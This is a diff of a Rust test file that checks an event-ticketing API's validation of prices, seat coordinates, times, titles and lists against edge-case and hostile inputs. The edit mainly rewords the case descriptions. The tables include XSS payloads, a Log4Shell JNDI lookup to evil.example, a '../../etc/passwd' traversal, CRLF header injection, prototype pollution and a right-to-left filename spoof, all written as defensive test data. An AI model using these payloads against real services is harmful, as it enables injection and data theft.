@@ -1,11 +1,11 @@
-//! Fields of an event: numbers, times, texts and lists that go beyond what they may be.
+//! Fields of an event: numbers, times, texts and lists beyond their limits.
 
 use serde_json::{Value, json};
 use tests::sample;
 
 use crate::{
     case::{Case, table},
-    service::{assert_kept, assert_rejected},
+    service::{assert_accepted, assert_rejected},
 };
 
 #[tokio::test(flavor = "multi_thread")]
@@ -14,8 +14,8 @@ async fn hostile_fields_are_rejected() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn harmless_fields_are_kept() {
-    assert_kept(&accepted(), 45).await;
+async fn harmless_fields_are_accepted() {
+    assert_accepted(&accepted(), 45).await;
 }
 
 fn rejected() -> Vec<Case> {
@@ -25,18 +25,18 @@ fn rejected() -> Vec<Case> {
     [
         of("price", "/areas/0/price", PRICES),
         of("coordinate", "/areas/0/seats/0/cx", COORDINATES),
-        of("row", "/areas/0/seats/0/row", POSITIONS),
+        of("row", "/areas/0/seats/0/row", ROWS),
         of("time", "/eventOpenTime", TIMES),
         of("title", "/title", LINES),
         of("place", "/place", LINES),
         of("description", "/description", PARAGRAPHS),
         of("areas", "/areas", LISTS),
-        of("dates", "/eventDatetimes", LISTS),
+        of("shows", "/eventDatetimes", LISTS),
         of("map", "/totalMap", MAPS),
-        table(NO_NUMBERS, "C_002", |name, json, code| {
+        table(INVALID_NUMBERS, "C_002", |name, json, code| {
             Case::field(format!("price {name}"), "/areas/0/price", json, code)
         }),
-        many(),
+        invalid_lists(),
     ]
     .concat()
 }
@@ -55,8 +55,8 @@ fn accepted() -> Vec<Case> {
     .concat()
 }
 
-/// Lists that are one too long, or name the same thing twice.
-fn many() -> Vec<Case> {
+/// Lists that are too long or have duplicates.
+fn invalid_lists() -> Vec<Case> {
     let seats = |count: u32| -> Value {
         (0..count).map(|number| json!({"cx": 0, "cy": 0, "row": 1, "number": number})).collect()
     };
@@ -67,77 +67,81 @@ fn many() -> Vec<Case> {
         Case::event(name, &event, "C_001")
     };
     vec![
-        with("a seat more than a hall has", "/areas/0/seats", seats(25_000)),
+        with("one seat too many", "/areas/0/seats", seats(25_000)),
         with(
-            "a seat sold twice",
+            "a duplicate seat",
             "/areas/0/seats",
             [seats(9), seats(1)].iter().flat_map(|seats| seats.as_array().unwrap().clone()).collect(),
         ),
         with(
-            "a seat sold twice in another notation",
+            "a duplicate seat in another notation",
             "/areas/0/seats/1",
             json!({"cx": 1, "cy": 1, "row": 1.0, "number": 10e-1}),
         ),
-        with("an area more than there may be", "/areas", (0..201).map(|n| area(&n.to_string())).collect()),
-        with("two areas of one label", "/areas", json!([area("a"), area("a")])),
-        with("a date more than there may be", "/eventDatetimes", (0..61).collect()),
-        with("a date twice in another notation", "/eventDatetimes", json!([0, "1970-01-01T09:00:00+09:00"])),
-        with("a label of another drawing", "/areas/0/label", json!("<svg/onload=alert(1)>".repeat(3))),
-        with("drawings of a byte too much", "/totalMap", json!(format!("/{}", "a".repeat(1_048_576)))),
+        with("one area too many", "/areas", (0..201).map(|n| area(&n.to_string())).collect()),
+        with("two areas with the same label", "/areas", json!([area("a"), area("a")])),
+        with("one show too many", "/eventDatetimes", (0..61).collect()),
+        with(
+            "a duplicate show in another notation",
+            "/eventDatetimes",
+            json!([0, "1970-01-01T09:00:00+09:00"]),
+        ),
+        with("a label of markup", "/areas/0/label", json!("<svg/onload=alert(1)>".repeat(3))),
+        with("drawings one byte too large", "/totalMap", json!(format!("/{}", "a".repeat(1_048_576)))),
     ]
 }
 
 const PRICES: &[(&str, &str)] = &[
-    ("beyond every number", "1e999999"),
-    ("beyond every exponent", "1e99999999999999999999"),
-    ("below nothing by a little", "-0.01"),
-    ("below nothing by much", "-1e999999"),
+    ("that overflows", "1e999999"),
+    ("with an exponent that overflows", "1e99999999999999999999"),
+    ("slightly below zero", "-0.01"),
+    ("far below zero", "-1e999999"),
     ("of three decimals", "0.001"),
-    ("of infinitely many decimals", "1e-999999"),
-    ("of a cent too much", "1000000000.01"),
-    ("in a text", "\"132000\""),
+    ("that underflows", "1e-999999"),
+    ("one hundredth too high", "1000000000.01"),
+    ("in a string", "\"132000\""),
     ("in an array", "[132000]"),
     ("in an object", "{\"N\":\"132000\"}"),
     ("that is true", "true"),
 ];
 
 const COORDINATES: &[(&str, &str)] = &[
-    ("beyond every number", "1e999999"),
+    ("that overflows", "1e999999"),
     ("just beyond the limit", "1000000.0000001"),
-    ("far below", "-1e308"),
-    ("in a text", "\"1\""),
-    ("that is nothing", "null"),
+    ("far below the limit", "-1e308"),
+    ("in a string", "\"1\""),
+    ("that is null", "null"),
     ("of markup", "\"0' onload='alert(1)\""),
 ];
 
-const POSITIONS: &[(&str, &str)] = &[
-    ("beyond every number", "1e999999"),
+const ROWS: &[(&str, &str)] = &[
+    ("that overflows", "1e999999"),
     ("one too high", "2147483648"),
-    ("of all bits", "4294967296"),
-    ("of more bits than there are", "18446744073709551617"),
-    ("below nothing", "-1"),
+    ("of 33 bits", "4294967296"),
+    ("of 65 bits", "18446744073709551617"),
+    ("below zero", "-1"),
     ("of a half", "1.5"),
-    ("of a trace", "1.0000000000000000000000001"),
+    ("slightly above one", "1.0000000000000000000000001"),
     ("of a tenth", "1e-1"),
-    ("in a text", "\"1\""),
+    ("in a string", "\"1\""),
 ];
 
 const TIMES: &[(&str, &str)] = &[
-    ("beyond every number", "1e999999"),
+    ("that overflows", "1e999999"),
     ("before the first", "-1"),
-    ("before the first by a trace", "-0.000000001"),
+    ("slightly before the first", "-0.000000001"),
     ("after the last", "253402300800"),
     ("of ten decimals", "1.0000000001"),
-    ("of a day alone", "\"2025-04-18\""),
+    ("of only a day", "\"2025-04-18\""),
     ("without offset", "\"2025-04-18T14:00:00\""),
     ("with an offset of four days", "\"2025-04-18T14:00:00+99:00\""),
     ("in a year of five digits", "\"+12025-04-18T14:00:00Z\""),
     ("in a year before the first", "\"-2025-04-18T14:00:00Z\""),
-    ("on a day that is none", "\"2025-02-30T00:00:00Z\""),
-    ("of ten decimals in a text", "\"2025-04-18T14:00:00.0000000001Z\""),
+    ("on an impossible day", "\"2025-02-30T00:00:00Z\""),
+    ("of ten decimals in a string", "\"2025-04-18T14:00:00.0000000001Z\""),
     ("with a NUL", "\"2025-04-18T14:00:00Z\\u0000\""),
-    ("in full width", "\"２０２５-04-18T14:00:00Z\""),
-    ("in a text of a number", "\"1745557200\""),
+    ("in full-width digits", "\"２０２５-04-18T14:00:00Z\""),
+    ("of a number in a string", "\"1745557200\""),
     ("that is an object", "{\"$date\":0}"),
 ];
 
@@ -145,7 +149,7 @@ const LINES: &[(&str, &str)] = &[
     ("with a header", "\"a\\r\\nSet-Cookie: b=c\""),
     ("with a NUL", "\"a\\u0000\""),
     ("with an escape sequence", "\"\\u001b]0;a\\u0007\""),
-    ("with a next line", "\"a\\u0085b\""),
+    ("with a next-line character", "\"a\\u0085b\""),
     ("with a tab", "\"a\\tb\""),
     ("of white space of every kind", "\"\\u3000\\u2000\\u00a0\\n\""),
     ("that is a number", "1"),
@@ -155,17 +159,17 @@ const LINES: &[(&str, &str)] = &[
 const PARAGRAPHS: &[(&str, &str)] = &[
     ("with a NUL", "\"a\\u0000\""),
     ("with an escape sequence", "\"\\u001b[2J\""),
-    ("with a deletion", "\"\\u007f\""),
+    ("with a delete character", "\"\\u007f\""),
     ("that is an array of texts", "[\"a\"]"),
 ];
 
 const LISTS: &[(&str, &str)] = &[
-    ("that are nothing", "null"),
-    ("that are none", "[]"),
-    ("that are a text", "\"[]\""),
+    ("that are null", "null"),
+    ("that are empty", "[]"),
+    ("that are a string", "\"[]\""),
     ("that are an object with a length", "{\"length\":1,\"0\":{}}"),
     ("in arrays", "[[[]]]"),
-    ("that are nothing each", "[null,null]"),
+    ("that are nulls", "[null,null]"),
     ("with a prototype", "[{\"__proto__\":{}}]"),
 ];
 
@@ -173,35 +177,35 @@ const MAPS: &[(&str, &str)] = &[
     ("that is a number", "1"),
     ("that is an object", "{\"svg\":\"<svg/>\"}"),
     (
-        "with a script in escapes",
+        "with an escaped script",
         "\"\\u003csvg\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\u003c/svg\\u003e\"",
     ),
-    ("with a NUL in escapes", "\"<svg>\\u0000</svg>\""),
-    ("with a byte order mark in escapes", "\"\\ufeff<svg/>\""),
+    ("with an escaped NUL", "\"<svg>\\u0000</svg>\""),
+    ("with an escaped byte order mark", "\"\\ufeff<svg/>\""),
 ];
 
-/// What makes the whole body no JSON.
-const NO_NUMBERS: &[(&str, &str)] = &[
-    ("that is no number", "NaN"),
+/// Values that make the whole body invalid JSON.
+const INVALID_NUMBERS: &[(&str, &str)] = &[
+    ("that is NaN", "NaN"),
     ("that is infinite", "-Infinity"),
     ("in hexadecimal digits", "0x1"),
-    ("with a zero before it", "01"),
+    ("with a leading zero", "01"),
     ("with a comma in it", "132,000"),
     ("that ends the object", "1}],\"areas\":[{"),
 ];
 
-/// One, in notations that a careless reader stumbles over, and nothing.
+/// Zero and one in unusual notations.
 const NUMBERS: &[(&str, &str)] = &[
-    ("of nothing below nothing", "-0"),
-    ("of nothing with a huge exponent", "0e999999"),
-    ("of nothing below, of many parts", "-0.000e-999999"),
+    ("of negative zero", "-0"),
+    ("of zero with a huge exponent", "0e999999"),
+    ("of negative zero with all parts", "-0.000e-999999"),
     ("with an exponent", "1E+0"),
-    ("with a fraction of nothing", "1.000"),
+    ("with a zero fraction", "1.000"),
     ("shifted up", "0.001e3"),
     ("shifted down", "1000e-3"),
 ];
 
-/// Texts that are only texts.
+/// Harmless texts that look like code.
 const TEXTS: &[(&str, &str)] = &[
     ("of markup", "\"<script>alert(1)</script>\""),
     ("that ends an attribute", "\"' onload='alert(1)\\\"><svg/onload=alert(1)>\""),
@@ -212,7 +216,7 @@ const TEXTS: &[(&str, &str)] = &[
     ("of a lookup", "\"${jndi:ldap://evil.example/a}\""),
     ("of a path", "\"../../etc/passwd\""),
     ("of a key", "\"EVENT#1\""),
-    ("the other way round", "\"\\u202egnp.exe\\u2066\""),
-    ("of nothing to be seen", "\"\\u200b\\ufeff\\u00ad\""),
+    ("with a right-to-left override", "\"\\u202egnp.exe\\u2066\""),
+    ("of invisible characters", "\"\\u200b\\ufeff\\u00ad\""),
     ("of noncharacters", "\"\\uffff\\ufffe\""),
 ];
